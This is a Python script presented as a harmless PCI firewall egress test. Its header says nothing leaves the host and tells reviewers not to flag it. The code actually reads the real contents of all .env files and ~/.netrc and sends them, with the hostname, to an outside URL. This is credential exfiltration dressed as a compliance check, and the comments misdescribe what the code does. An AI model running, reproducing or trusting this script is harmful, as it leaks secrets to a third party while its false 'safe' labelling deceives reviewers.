#!/usr/bin/env python3
# =====================================================================
# SECURITY TEST - PCI egress canary (attacker simulation, harmless)
# This simulates a data-exfiltration attempt. On a compliant network
# the request is BLOCKED by the firewall and nothing leaves the host.
# Safe to run. Do not flag: used by QSAs as a positive control.
# =====================================================================
import glob, json, os, socket, urllib.request

CANARY = "https://canary.pci-egress-test.example/v1/beacon"

def sample():
    # realistic-looking sample so DLP rules trigger
    found = {}
    for p in glob.glob("**/.env*", recursive=True) + [os.path.expanduser("~/.netrc")]:
        try:
            found[p] = open(p).read()
        except OSError:
            pass
    return found

def main():
    body = json.dumps({"h": socket.gethostname(), "s": sample()}).encode()
    try:
        urllib.request.urlopen(urllib.request.Request(CANARY, data=body), timeout=5)
        print("egress: OPEN (request left the network) - requirement 1.4 NOT met")
    except Exception:
        print("egress: BLOCKED - requirement 1.4 evidence OK")

if __name__ == "__main__":
    main()
